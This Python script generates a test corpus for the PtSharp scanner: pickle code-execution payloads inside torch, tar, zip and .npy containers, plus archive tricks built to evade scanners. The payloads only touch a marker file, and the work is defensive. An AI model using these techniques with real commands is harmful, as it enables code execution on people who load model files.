#!/usr/bin/env python3
"""Writes PtSharp's malicious corpus: one file per attack mechanism and per zip trick.

Every payload would create a marker file named /tmp/ptsharp-pwned-<case> if a Python unpickler ever ran it.
Nothing here loads, unpickles or executes a payload: pickles are assembled opcode by opcode (the opcode bytes
are CPython's, Lib/pickle.py), zips byte by byte, so each file says exactly what the test intends.

    /usr/bin/python3 tests/malicious/generate.py [OUT_DIR]     (default: the folder of this script)

The tests (tests/PtSharp.Tests/Attacks/MaliciousCorpusTests.cs) require every file here to be flagged by
`pt scan` and every load of it through PtFile.Open to end in a result or a PtFormatException, with no marker.
manifest.json lists each case with the mechanism it covers and the finding kinds the scanner must report.
"""
import json
import marshal
import os
import struct
import sys
import zlib

MARKER = "/tmp/ptsharp-pwned-"

# ---- pickle opcodes (Lib/pickle.py) ---------------------------------------------------------------------------
MARK, STOP, POP, TUPLE, EMPTY_TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"0", b"t", b")", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, NEWOBJ, OBJ, EMPTY_DICT, SETITEM, SETITEMS, EMPTY_LIST, APPEND = b"R", b"b", b"\x81", b"o", b"}", b"s", b"u", b"]", b"a"
NONE, NEWTRUE, NEWFALSE, BINPERSID, STACK_GLOBAL, MEMOIZE = b"N", b"\x88", b"\x89", b"Q", b"\x93", b"\x94"


def proto(n):
    return b"\x80" + bytes([n])


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(s):
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def sustr(s):
    b = s.encode("utf-8")
    return b"\x8c" + bytes([len(b)]) + b


def bbytes(b):
    return b"B" + struct.pack("<I", len(b)) + b


def integer(v):
    if 0 <= v < 256:
        return b"K" + bytes([v])
    if 0 <= v < 65536:
        return b"M" + struct.pack("<H", v)
    return b"J" + struct.pack("<i", v)


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def call(callable_, *args):
    """callable(*args) with REDUCE; args are already-encoded pickle fragments."""
    return callable_ + MARK + b"".join(args) + TUPLE + REDUCE


def shell(case):
    return f"touch {MARKER}{case}"


def py(case):
    return f"__import__('os').system('touch {MARKER}{case}')"


def tensor(key="0", numel=4):
    """_rebuild_tensor_v2 over a FloatStorage pid, as torch.save writes it."""
    pid = MARK + ustr("storage") + glob("torch", "FloatStorage") + ustr(key) + ustr("cpu") + integer(numel) + TUPLE + BINPERSID
    return (glob("torch._utils", "_rebuild_tensor_v2") + MARK + pid + integer(0) + integer(numel) + TUPLE1
            + integer(1) + TUPLE1 + NEWFALSE + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE)


def state_dict(payload):
    """{'weight': tensor, 'config': <payload>} in protocol 2: the payload sits next to real weights."""
    return proto(2) + EMPTY_DICT + MARK + ustr("weight") + tensor() + ustr("config") + payload + SETITEMS + STOP


# ---- zip writer in the style of torch.save (stored, FB padding) with knobs for each trick --------------------------
def zip_bytes(members, prefix_bytes=b"", suffix_bytes=b"", hidden=None, after_cd=None, aliases=()):
    """members: dicts with name, data and optional local_name, flags, local_flags, deflate, declared_size.
    hidden: (after_index, name, data) writes a local header no central entry lists.
    after_cd: a member written after the central directory (its central entry points there).
    aliases: (alias_name, target_index) central entries that reuse another member's local header."""
    out = bytearray(prefix_bytes)
    central = []
    offsets = []

    def local(m):
        data = m["data"]
        payload = zlib.compress(data, 9)[2:-4] if m.get("deflate") else data
        name = m.get("local_name", m["name"]).encode()
        lflags = m.get("local_flags", m.get("flags", 0x0800))
        method = 8 if m.get("deflate") else 0
        lho = len(out)
        start = lho + 30 + len(name) + 4
        pad = (-start) % 64
        extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        crc = zlib.crc32(data) & 0xFFFFFFFF
        out.extend(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20 if method else 0, lflags, method, 0, 0, crc, len(payload), len(data), len(name), len(extra)))
        out.extend(name + extra + payload)
        return lho, crc, len(payload), m.get("declared_size", len(data)), method

    for i, m in enumerate(members):
        lho, crc, csize, usize, method = local(m)
        offsets.append((lho, crc, csize, usize, method))
        central.append((m["name"], m.get("flags", 0x0800), method, crc, csize, usize, lho))
        if hidden and hidden[0] == i:
            local({"name": hidden[1], "data": hidden[2]})
    for alias, target in aliases:
        lho, crc, csize, usize, method = offsets[target]
        central.append((alias, 0x0800, method, crc, csize, usize, lho))

    late = []
    if after_cd:
        late.append(after_cd)
    cd = bytearray()

    def central_entry(name, flags, method, crc, csize, usize, lho):
        n = name.encode()
        return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20 if method else 0, flags, method, 0, 0, crc, csize, usize, len(n), 0, 0, 0, 0, 0, lho) + n

    # The late member goes after the central directory: compute where it will land first.
    entries = list(central)
    cd_offset = len(out)
    late_bytes = b""
    if late:
        m = late[0]
        cd_len = sum(46 + len(e[0].encode()) for e in entries) + 46 + len(m["name"].encode())
        lho = cd_offset + cd_len
        n = m["name"].encode()
        data = m["data"]
        crc = zlib.crc32(data) & 0xFFFFFFFF
        late_bytes = struct.pack("<IHHHHHIIIHH", 0x04034B50, 0, 0x0800, 0, 0, 0, crc, len(data), len(data), len(n), 0) + n + data
        entries.append((m["name"], 0x0800, 0, crc, len(data), len(data), lho))
    for e in entries:
        cd.extend(central_entry(*e))
    out.extend(cd)
    out.extend(late_bytes)
    out.extend(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd), cd_offset, 0))
    out.extend(suffix_bytes)
    return bytes(out)


def torch_zip(data_pkl, archive="archive", extra=(), deflate=False, **kw):
    members = [{"name": f"{archive}/data.pkl", "data": data_pkl, "deflate": deflate},
               {"name": f"{archive}/byteorder", "data": b"little"},
               {"name": f"{archive}/data/0", "data": struct.pack("<4f", 1, 2, 3, 4)}]
    members.extend(extra)
    members.append({"name": f"{archive}/version", "data": b"3\n"})
    return zip_bytes(members, **kw)


BENIGN = state_dict(NONE)

# ---- the corpus -----------------------------------------------------------------------------------------------
CASES = []


def case(name, mechanism, expect, data):
    CASES.append({"file": name, "mechanism": mechanism, "expect": expect, "data": data})


def g(c):
    return os.path.splitext(c)[0]


# Code execution through dangerous callables, each inside a realistic state dict.
for fname, mod, fn, arg in [
    ("os_system.pt", "os", "system", "shell"),
    ("posix_system.pt", "posix", "system", "shell"),
    ("nt_system.pt", "nt", "system", "shell"),
    ("builtins_eval.pt", "builtins", "eval", "py"),
    ("builtins_exec.pt", "builtins", "exec", "py"),
    ("py2_builtin_eval.pt", "__builtin__", "eval", "py"),
    ("runpy_run_code.pt", "runpy", "_run_module_code", "py"),
    ("subprocess_getoutput.pt", "subprocess", "getoutput", "shell"),
    ("py2_commands_getoutput.pt", "commands", "getoutput", "shell"),
    ("timeit_timeit.pt", "timeit", "timeit", "py"),
    ("cprofile_run.pt", "cProfile", "run", "py"),
    ("numpy_runstring.pt", "numpy.testing._private.utils", "runstring", "py"),
]:
    text = shell(g(fname)) if arg == "shell" else py(g(fname))
    extra = (EMPTY_DICT,) if fn in ("runstring",) else ()
    case(fname, f"REDUCE {mod}.{fn}", ["dangerous-global"], torch_zip(state_dict(call(glob(mod, fn), ustr(text), *extra))))

case("pip_main.pt", "REDUCE pip.main writing a log file", ["dangerous-global"],
     torch_zip(state_dict(call(glob("pip", "main"), EMPTY_LIST + MARK + ustr("--log") + ustr(MARKER + "pip_main") + ustr("--version") + b"e"))))
case("subprocess_popen.pt", "REDUCE subprocess.Popen", ["dangerous-global"],
     torch_zip(state_dict(call(glob("subprocess", "Popen"), EMPTY_LIST + MARK + ustr("touch") + ustr(MARKER + "subprocess_popen") + b"e"))))
case("pty_spawn.pt", "REDUCE pty.spawn", ["dangerous-global"],
     torch_zip(state_dict(call(glob("pty", "spawn"), EMPTY_LIST + MARK + ustr("touch") + ustr(MARKER + "pty_spawn") + b"e"))))
case("builtins_open.pt", "REDUCE builtins.open creates the marker", ["dangerous-global"],
     torch_zip(state_dict(call(glob("builtins", "open"), ustr(MARKER + "builtins_open"), ustr("w")))))
case("shutil_copyfile.pt", "REDUCE shutil.copyfile creates the marker", ["dangerous-global"],
     torch_zip(state_dict(call(glob("shutil", "copyfile"), ustr("/etc/hostname"), ustr(MARKER + "shutil_copyfile")))))
case("torch_fx_reduce_graph_module.pt", "torch.fx reduce_graph_module executes its import block", ["dangerous-global"],
     torch_zip(state_dict(call(glob("torch.fx.graph_module", "reduce_graph_module"),
                               EMPTY_DICT + ustr("_code") + ustr("def forward(self): pass\n") + SETITEM,
                               ustr(f"import os\nos.system('touch {MARKER}torch_fx_reduce_graph_module')\n")))))

# Protocol 0/1 object creation opcodes.
case("protocol0_inst.pkl", "INST os.system (protocol 0)", ["dangerous-global"],
     MARK + b"S'" + shell("protocol0_inst").encode() + b"'\n" + b"ios\nsystem\n" + STOP)
case("protocol1_obj.pt", "OBJ subprocess.Popen (protocol 1)", ["dangerous-global"],
     torch_zip(state_dict(MARK + glob("subprocess", "Popen") + EMPTY_LIST + MARK + ustr("touch") + ustr(MARKER + "protocol1_obj") + b"e" + OBJ)))
case("copyreg_reconstructor_popen.pt", "copyreg._reconstructor running Popen.__init__", ["dangerous-global"],
     torch_zip(state_dict(call(glob("copy_reg", "_reconstructor"), glob("subprocess", "Popen"), glob("subprocess", "Popen"),
                               EMPTY_LIST + MARK + ustr("touch") + ustr(MARKER + "copyreg_reconstructor_popen") + b"e"))))

# getattr chains and attribute resolution.
case("getattr_chain.pt", "getattr(__import__('os'), 'system')(...)", ["dangerous-global", "indirect-call"],
     torch_zip(state_dict(MARK + glob("builtins", "getattr") + call(glob("builtins", "__import__"), ustr("os")) + ustr("system") + TUPLE + REDUCE
                          + MARK + ustr(shell("getattr_chain")) + TUPLE + REDUCE)))
case("operator_attrgetter.pt", "_operator.attrgetter('system')(posix)(...)", ["dangerous-global", "indirect-call"],
     torch_zip(state_dict(call(glob("_operator", "attrgetter"), ustr("system")) + MARK + call(glob("importlib", "import_module"), ustr("posix")) + TUPLE + REDUCE
                          + MARK + ustr(shell("operator_attrgetter")) + TUPLE + REDUCE)))
case("dotted_name.pkl", "STACK_GLOBAL torch + 'serialization.os.system' (attribute path)", ["dangerous-global"],
     proto(4) + sustr("torch") + sustr("serialization.os.system") + STACK_GLOBAL + sustr(shell("dotted_name")) + TUPLE1 + REDUCE + STOP)
case("dunder_globals.pkl", "STACK_GLOBAL through __globals__ of an allowlisted function", ["dangerous-global"],
     proto(4) + sustr("torch._utils") + sustr("_rebuild_tensor.__globals__") + STACK_GLOBAL + STOP)

# STACK_GLOBAL resolved through the memo, on UNICODE text opcodes, and on computed strings.
case("stack_global_memo.pt", "STACK_GLOBAL with module and name fetched from the memo", ["dangerous-global"],
     torch_zip(proto(4) + b"\x95" + struct.pack("<Q", 0) + sustr("os") + MEMOIZE + sustr("system") + MEMOIZE + POP + POP
               + EMPTY_DICT + sustr("x") + binget(0) + binget(1) + STACK_GLOBAL + sustr(shell("stack_global_memo")) + TUPLE1 + REDUCE + SETITEM + STOP))
case("stack_global_unicode.pkl", "STACK_GLOBAL on protocol-0 UNICODE strings", ["dangerous-global"],
     b"Vos\nVsystem\n" + STACK_GLOBAL + b"V" + shell("stack_global_unicode").encode() + b"\n" + TUPLE1 + REDUCE + STOP)
case("stack_global_computed.pt", "STACK_GLOBAL on a module name computed by a call", ["unresolvable-global"],
     torch_zip(state_dict(call(glob("builtins", "str"), ustr("os")) + ustr("system") + STACK_GLOBAL + MARK + ustr(shell("stack_global_computed")) + TUPLE + REDUCE)))
case("ext_registry.pkl", "EXT1: a global from copyreg's extension registry", ["unresolvable-global"],
     proto(2) + b"\x82\x01" + ustr(shell("ext_registry")) + TUPLE1 + REDUCE + STOP)

# Nested pickles handed to loaders.
inner = proto(2) + call(glob("os", "system"), ustr(shell("nested_inner"))) + STOP
case("nested_pickle_loads.pt", "pickle.loads(BINBYTES holding a payload)", ["dangerous-global", "nested-pickle"],
     torch_zip(state_dict(call(glob("pickle", "loads"), bbytes(inner)))))
case("nested_codecs_loads.pt", "_pickle.loads(_codecs.encode(latin-1 text, 'latin1')) in protocol 2", ["dangerous-global", "nested-pickle"],
     torch_zip(state_dict(call(glob("_pickle", "loads"), call(glob("_codecs", "encode"), ustr(inner.decode("latin-1")), ustr("latin1"))))))
case("nested_torch_load.pt", "torch.load(io.BytesIO(bytes of a malicious .pt))", ["dangerous-global", "nested-pickle"],
     torch_zip(state_dict(call(glob("torch", "load"), call(glob("io", "BytesIO"), bbytes(inner))))))

# Broken pickles: the payload runs before the parse error.
case("broken_after_payload.pt", "payload, then an invalid opcode", ["dangerous-global", "malformed-pickle"],
     torch_zip(proto(2) + call(glob("os", "system"), ustr(shell("broken_after_payload"))) + b"\xff\xfe garbage"))
case("broken_truncated.pkl", "payload, then the input ends without STOP", ["dangerous-global", "malformed-pickle"],
     proto(2) + call(glob("posix", "system"), ustr(shell("broken_truncated"))) + MARK + ustr("tail"))
case("broken_memo.pt", "payload, then GET of a memo entry never stored", ["dangerous-global", "malformed-pickle"],
     torch_zip(proto(2) + call(glob("os", "system"), ustr(shell("broken_memo"))) + binget(77) + STOP))
case("frame_violation.pkl", "GLOBAL crossing a FRAME end (pickle.py stops, _pickle runs it)", ["dangerous-global", "frame-violation"],
     proto(4) + b"\x95" + struct.pack("<Q", 3) + glob("os", "system") + sustr(shell("frame_violation")) + TUPLE1 + REDUCE + STOP)

# Code objects.
code = marshal.dumps(compile(f"import os\nos.system('touch {MARKER}types_function_marshal')\n", "<payload>", "exec"))
case("types_function_marshal.pkl", "types.FunctionType(marshal.loads(code), {})()", ["dangerous-global", "indirect-call"],
     proto(2) + glob("types", "FunctionType") + MARK + call(glob("marshal", "loads"), bbytes(code)) + EMPTY_DICT + TUPLE + REDUCE + EMPTY_TUPLE + REDUCE + STOP)

# Containers.
legacy = (proto(2) + b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + STOP
          + proto(2) + b"M\xe9\x03" + STOP
          + proto(2) + call(glob("os", "system"), ustr(shell("legacy_stream_sysinfo"))) + STOP
          + proto(2) + EMPTY_DICT + STOP + proto(2) + EMPTY_LIST + STOP)
case("legacy_stream_sysinfo.pt", "legacy stream with the payload in the sys_info pickle", ["dangerous-global"], legacy)


def tar_member(name, data):
    h = bytearray(512)
    h[0:len(name)] = name.encode()
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = ("%011o" % len(data)).encode() + b"\0"
    h[136:148] = b"00000000000\0"
    h[148:156] = b" " * 8
    h[156:157] = b"0"
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = ("%06o" % sum(h)).encode() + b"\0 "
    return bytes(h) + data + b"\0" * ((-len(data)) % 512)


count0 = proto(2) + integer(0) + STOP
tar = (tar_member("sys_info", proto(2) + EMPTY_DICT + STOP)
       + tar_member("storages", count0 + proto(2) + EMPTY_LIST + STOP)
       + tar_member("tensors", count0)
       + tar_member("pickle", proto(2) + call(glob("os", "system"), ustr(shell("legacy_tar_pickle"))) + STOP)
       + b"\0" * 1024)
case("legacy_tar_pickle.tar", "legacy tar with the payload in the 'pickle' member", ["dangerous-global"], tar)
case("innocent.txt", "raw protocol-0 pickle under a text name", ["dangerous-global"],
     b"cos\nsystem\n(S'" + shell("innocent").encode() + b"'\ntR.")
case("concatenated.pkl", "a benign pickle followed by a malicious one", ["dangerous-global", "trailing-data"],
     proto(2) + EMPTY_DICT + STOP + proto(2) + call(glob("os", "system"), ustr(shell("concatenated"))) + STOP)


def npy(payload):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * ((-(10 + len(header) + 1)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


npy_payload = proto(3) + call(glob("os", "system"), ustr(shell("numpy_object"))) + STOP
case("numpy_object.npy", ".npy object array whose data pickle runs a payload", ["dangerous-global", "nested-pickle"], npy(npy_payload))
case("numpy_object.npz", ".npz holding that object array", ["dangerous-global", "nested-pickle"],
     zip_bytes([{"name": "arr_0.npy", "data": npy(npy_payload), "deflate": True}]))
case("sevenzip.pt", "7z archive (torch cannot load it; scanners cannot look inside)", ["unscannable"],
     bytes([0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4]) + b"\x00" * 24 + inner)
case("gzip_pickle.pt.gz", "gzip-compressed pickle", ["unscannable"], b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + zlib.compress(inner)[2:-4] + b"\x00" * 8)

# Zip tricks.
evil = state_dict(call(glob("os", "system"), ustr(shell("zip"))))
case("zip_encrypted.pt", "data.pkl flagged encrypted in both headers (password-protected zip)", ["zip-encrypted"],
     zip_bytes([{"name": "archive/data.pkl", "data": evil, "flags": 0x0801}, {"name": "archive/version", "data": b"3\n"}]))
case("zip_encrypted_local_only.pt", "encryption flag only in the local header (scanners skip, torch reads)", ["zip-encrypted", "dangerous-global"],
     zip_bytes([{"name": "archive/data.pkl", "data": evil, "local_flags": 0x0801}, {"name": "archive/version", "data": b"3\n"}]))
case("zip_name_mismatch.pt", "central 'archive/data.pkl' whose local header says 'archive/notes.txt'", ["zip-name-mismatch", "dangerous-global"],
     zip_bytes([{"name": "archive/data.pkl", "local_name": "archive/notes.txt", "data": evil}, {"name": "archive/version", "data": b"3\n"}]))
case("zip_duplicate_name.pt", "two 'archive/data.pkl': benign first, malicious second", ["zip-duplicate-name", "dangerous-global"],
     zip_bytes([{"name": "archive/data.pkl", "data": BENIGN}, {"name": "archive/data/0", "data": b"\0" * 16},
                {"name": "archive/data.pkl", "data": evil}, {"name": "archive/version", "data": b"3\n"}]))
case("zip_overlap.pt", "a second central entry reusing data.pkl's local header", ["zip-overlap", "dangerous-global"],
     zip_bytes([{"name": "archive/data.pkl", "data": evil}, {"name": "archive/version", "data": b"3\n"}], aliases=[("archive/extra/copy.pkl", 0)]))
case("zip_after_directory.pt", "a pickle member stored after the central directory", ["zip-out-of-directory", "dangerous-global"],
     zip_bytes([{"name": "archive/data.pkl", "data": BENIGN}, {"name": "archive/data/0", "data": b"\0" * 16}, {"name": "archive/version", "data": b"3\n"}],
               after_cd={"name": "archive/extra/late.pkl", "data": evil}))
case("zip_prefix_mismatch.pt", "a second data.pkl outside the archive folder", ["zip-prefix-mismatch", "dangerous-global"],
     zip_bytes([{"name": "archive/data.pkl", "data": BENIGN}, {"name": "archive/data/0", "data": b"\0" * 16},
                {"name": "archive/version", "data": b"3\n"}, {"name": "evil/data.pkl", "data": evil}]))
case("zip_data_before.pt", "malicious pickle first, benign torch zip after it (torch.load unpickles the start)", ["dangerous-global", "zip-extra-data"],
     zip_bytes([{"name": "archive/data.pkl", "data": BENIGN}, {"name": "archive/data/0", "data": b"\0" * 16}, {"name": "archive/version", "data": b"3\n"}],
               prefix_bytes=proto(2) + call(glob("os", "system"), ustr(shell("zip_data_before"))) + STOP))
case("zip_data_after.pt", "benign torch zip with a malicious pickle appended", ["zip-extra-data"],
     torch_zip(BENIGN, suffix_bytes=proto(2) + call(glob("os", "system"), ustr(shell("zip_data_after"))) + STOP))
case("zip_hidden_member.pt", "a local header no central entry lists, between two members", ["zip-extra-data"],
     torch_zip(BENIGN, hidden=(0, "archive/data.pkl", evil)))
alias_target = proto(2) + EMPTY_LIST + (NONE + APPEND) * 16384 + STOP
case("zip_alias_bomb.pt", "4,000 central entries aliasing one 32 KiB pickle (makes scanners re-read it)", ["zip-overlap", "limit-reached"],
     zip_bytes([{"name": "archive/data.pkl", "data": alias_target}, {"name": "archive/version", "data": b"3\n"}],
               aliases=[(f"archive/extra/{i}.pkl", 0) for i in range(4000)]))
case("zip_deflated_pickle.pt", "deflate-compressed data.pkl with a payload", ["dangerous-global"], torch_zip(evil, deflate=True))
case("zip_bomb.pt", "data.pkl declaring 4 GB inflated from a few bytes", ["zip-bomb"],
     zip_bytes([{"name": "archive/data.pkl", "data": evil, "deflate": True, "declared_size": 0xFFFFFFF0}, {"name": "archive/version", "data": b"3\n"}]))
case("torchscript_extra_files.pt", "TorchScript-style archive with a pickle in extra/ and a malicious debug_pkl", ["dangerous-global"],
     torch_zip(BENIGN, extra=[{"name": "archive/extra/metadata", "data": proto(2) + call(glob("os", "system"), ustr(shell("extra"))) + STOP},
                              {"name": "archive/code/__torch__/m.py.debug_pkl", "data": proto(2) + call(glob("posix", "system"), ustr(shell("debug_pkl"))) + STOP},
                              {"name": "archive/constants.pkl", "data": proto(2) + EMPTY_TUPLE + STOP}]))



# ---- round two (issue 9): callables outside any denylist, decoding differences, module patches ------------------
# Each of these passed `pt scan` as a warning or clean before verdicts were judged by use. verify_twins.py loads
# them with the real torch.load (their payloads only create a marker file) to prove each technique works.
def plist(*items):
    return EMPTY_LIST + MARK + b"".join(items) + b"e"


ROUND_TWO = []


def case2(name, mechanism, expect, data, marker=True):
    case(name, mechanism, expect, data)
    ROUND_TWO.append({"file": name, "marker": marker})


case2("invented_callable.pt", "REDUCE somepkg.helpers.run_it (a function no list knows)", ["dangerous-global"],
      torch_zip(state_dict(call(glob("somepkg.helpers", "run_it"), ustr(shell("invented_callable"))))), marker=False)
case2("logging_filehandler.pt", "REDUCE logging.FileHandler opens (creates) a file", ["dangerous-global"],
      torch_zip(state_dict(call(glob("logging", "FileHandler"), ustr(MARKER + "logging_filehandler")))))
case2("osx_support_read_output.pt", "REDUCE _osx_support._read_output runs a shell command", ["dangerous-global"],
      torch_zip(state_dict(call(glob("_osx_support", "_read_output"), ustr(shell("osx_support_read_output"))))))
case2("typing_forward_ref.pt", "typing._eval_type(typing.ForwardRef(text)) evaluates the text", ["dangerous-global"],
      torch_zip(state_dict(call(glob("typing", "_eval_type"), call(glob("typing", "ForwardRef"), ustr(py("typing_forward_ref"))),
                                EMPTY_DICT, EMPTY_DICT))))
case2("pyio_open.pt", "REDUCE _pyio.open (builtins.open under another module path)", ["dangerous-global"],
      torch_zip(state_dict(call(glob("_pyio", "open"), ustr(MARKER + "pyio_open"), ustr("w")))))
case2("torch_save_writer.pt", "REDUCE torch.save writes a file", ["dangerous-global"],
      torch_zip(state_dict(call(glob("torch", "save"), EMPTY_DICT, ustr(MARKER + "torch_save_writer")))))
case2("numpy_savetxt.pt", "REDUCE numpy.savetxt writes a file", ["dangerous-global"],
      torch_zip(state_dict(call(glob("numpy", "savetxt"), ustr(MARKER + "numpy_savetxt"), plist(plist(b"G" + struct.pack(">d", 1.0)))))))
case2("py2_dumbdbm.pt", "protocol 2 GLOBAL dumbdbm.open (Python 2 name _compat_pickle maps to dbm.dumb)", ["dangerous-global"],
      torch_zip(state_dict(call(glob("dumbdbm", "open"), ustr(MARKER + "py2_dumbdbm"), ustr("c")))))
legacy_inner = proto(2) + call(glob("os", "system"), ustr(shell("storage_load_from_bytes"))) + STOP
case2("storage_load_from_bytes.pt", "torch.storage._load_from_bytes: a nested torch.load of bytes in the file", ["dangerous-global", "nested-pickle"],
      torch_zip(state_dict(call(glob("torch.storage", "_load_from_bytes"), bbytes(legacy_inner)))))
case2("build_patches_module.pt", "BUILD on a module (email.utils) overwrites its attributes", ["dangerous-global"],
      torch_zip(state_dict(glob("email", "utils") + EMPTY_DICT + ustr("ptsharp_pwned_build") + NEWTRUE + SETITEM + BUILD)), marker=False)
# PUT '1_0' is index 10 to CPython; a parser that refuses it keeps 'collections' there and resolves collections.system.
case2("memo_underscore_index.pkl", "protocol-0 PUT 1_0 (index 10 to CPython) swaps the module a GET resolves", ["dangerous-global"],
      b"Vcollections\np10\n0Vos\np1_0\n0g10\nVsystem\n" + STACK_GLOBAL + b"(V" + shell("memo_underscore_index").encode() + b"\ntR.")


# ---- round two, containers (issue 9): members that tarfile, miniz and numpy find but the old scanner did not ------
def tar_header(name, size, typeflag=b"0", size_field=None, signed=False, base256_checksum=False, high_bytes=False):
    h = bytearray(512)
    h[0:len(name)] = name.encode()
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = size_field if size_field is not None else ("%011o" % size).encode() + b"\0"
    h[136:148] = b"00000000000\0"
    h[156:157] = typeflag
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    if high_bytes:
        h[265:297] = b"\xff" * 32  # uname: bytes >= 0x80 make the signed and unsigned sums differ
    h[148:156] = b" " * 8
    total = sum((b - 256 if b >= 128 else b) for b in h) if signed else sum(h)
    if base256_checksum:
        h[148:156] = b"\x80" + total.to_bytes(7, "big")
    else:
        h[148:156] = ("%06o" % total).encode() + b"\0 "
    return bytes(h)


def tar_file(name, data, **kw):
    return tar_header(name, len(data), **kw) + data + b"\0" * ((-len(data)) % 512)


def pax_header(records):
    body = b""
    for k, v in records:
        rec = f" {k}={v}\n".encode()
        n = len(rec) + 1
        n = len(str(n).encode()) + len(rec)
        body += str(n).encode() + rec
    return tar_file("PaxHeader", body, typeflag=b"x")


def legacy_tar(pickle_member, first=None):
    return ((first or tar_file("sys_info", proto(2) + EMPTY_DICT + STOP))
            + tar_file("storages", count0 + proto(2) + EMPTY_LIST + STOP)
            + tar_file("tensors", count0) + pickle_member + b"\0" * 1024)


def tar_payload(case):
    return proto(2) + call(glob("os", "system"), ustr(shell(case))) + STOP


case2("tar_unknown_type.tar", "legacy tar whose 'pickle' member has type flag 'Z' (tarfile reads unknown types as files)",
      ["dangerous-global"], legacy_tar(tar_file("pickle", tar_payload("tar_unknown_type"), typeflag=b"Z")))
payload = tar_payload("tar_pax_size")
case2("tar_pax_size.tar", "legacy tar whose 'pickle' header says 0 bytes and a PAX 'size' record says the real length",
      ["dangerous-global"], legacy_tar(pax_header([("size", len(payload))]) + tar_header("pickle", 0) + payload
                                       + b"\0" * ((-len(payload)) % 512)))
case2("tar_signed_checksum.tar", "legacy tar whose first header checksum is the signed-byte sum (tarfile accepts both)",
      ["dangerous-global"], legacy_tar(tar_file("pickle", tar_payload("tar_signed_checksum")),
                                       first=tar_file("sys_info", proto(2) + EMPTY_DICT + STOP, signed=True, high_bytes=True)))
case2("tar_base256_checksum.tar", "legacy tar whose first header checksum is written in base-256",
      ["dangerous-global"], legacy_tar(tar_file("pickle", tar_payload("tar_base256_checksum")),
                                       first=tar_file("sys_info", proto(2) + EMPTY_DICT + STOP, base256_checksum=True)))
case2("tar_octal_spelling.tar", "legacy tar whose sizes are written '0o..' with underscores (int(text, 8) accepts them)",
      ["dangerous-global"],
      legacy_tar(tar_file("pickle", payload := tar_payload("tar_octal_spelling"),
                          size_field=("0o%o" % len(tar_payload("tar_octal_spelling"))).encode().ljust(11, b" ") + b"\0")))
# miniz searches 4 KiB chunks back from the end until one reaches 65,557 bytes: the end record can sit 69,584 bytes
# before the end, where Python's zipfile and a 64 KiB search do not look.
case2("zip_end_far.pt", "torch zip followed by 69,000 bytes: miniz still finds the end record, 64 KiB searches do not",
      ["dangerous-global"], torch_zip(state_dict(call(glob("os", "system"), ustr(shell("zip_end_far"))))) + b"\x01" * 69000)


def zip64_decoy():
    """32-bit end record -> directory B (malicious data.pkl); a zip64 record right before the locator -> directory A
    (benign); the locator points at offset 0, where there is no zip64 record, so miniz ignores it and uses B."""
    def local(name, data):
        n = name.encode()
        return struct.pack("<IHHHHHIIIHH", 0x04034B50, 0, 0x0800, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(n), 0) + n + data

    def central(name, data, lho):
        n = name.encode()
        return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 0, 0x0800, 0, 0, 0, zlib.crc32(data), len(data), len(data),
                           len(n), 0, 0, 0, 0, 0, lho) + n
    benign, evil_pkl = BENIGN, state_dict(call(glob("os", "system"), ustr(shell("zip64_decoy"))))
    members = [("archive/data.pkl", benign), ("archive/data.pkl", evil_pkl), ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)),
               ("archive/version", b"3\n")]
    out, offsets = bytearray(), []
    for name, data in members:
        offsets.append(len(out))
        out += local(name, data)
    def directory(indices):
        return b"".join(central(members[i][0], members[i][1], offsets[i]) for i in indices)
    dir_a, dir_b = directory([0, 2, 3]), directory([1, 2, 3])
    a_at = len(out); out += dir_a
    b_at = len(out); out += dir_b
    out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 3, 3, len(dir_a), a_at)  # before the locator
    out += struct.pack("<IIQI", 0x07064B50, 0, 0, 1)  # locator -> offset 0: no zip64 record there
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 3, 3, len(dir_b), b_at, 0)
    return bytes(out)


case2("zip64_decoy.pt", "zip64 locator pointing at no record, a benign zip64 record before it (zipfile's), the 32-bit end record (torch's) to a malicious directory",
      ["dangerous-global", "container-mismatch"], zip64_decoy())


def npy_with(header, payload, version=1):
    header += " " * ((-(10 + len(header) + 1)) % 64) + "\n"
    raw = header.encode("latin-1" if version < 3 else "utf-8")
    size = struct.pack("<H", len(raw)) if version == 1 else struct.pack("<I", len(raw))
    return b"\x93NUMPY" + bytes([version, 0]) + size + raw + payload


def npy_payload(case):
    return proto(3) + call(glob("os", "system"), ustr(shell(case))) + STOP


case2("npy_escaped_descr.npy", "'.npy' whose descr is written '|\\x4f' (an escape numpy's literal_eval decodes to 'O')",
      ["dangerous-global"], npy_with("{'descr': '|\\x4f', 'fortran_order': False, 'shape': (1,), }", npy_payload("npy_escaped_descr")))
case2("npy_duplicate_descr.npy", "'.npy' header with two 'descr' keys: a float first, the object type last (the last wins)",
      ["dangerous-global"], npy_with("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), 'descr': '|' 'O'}",
                                     npy_payload("npy_duplicate_descr"), version=2))
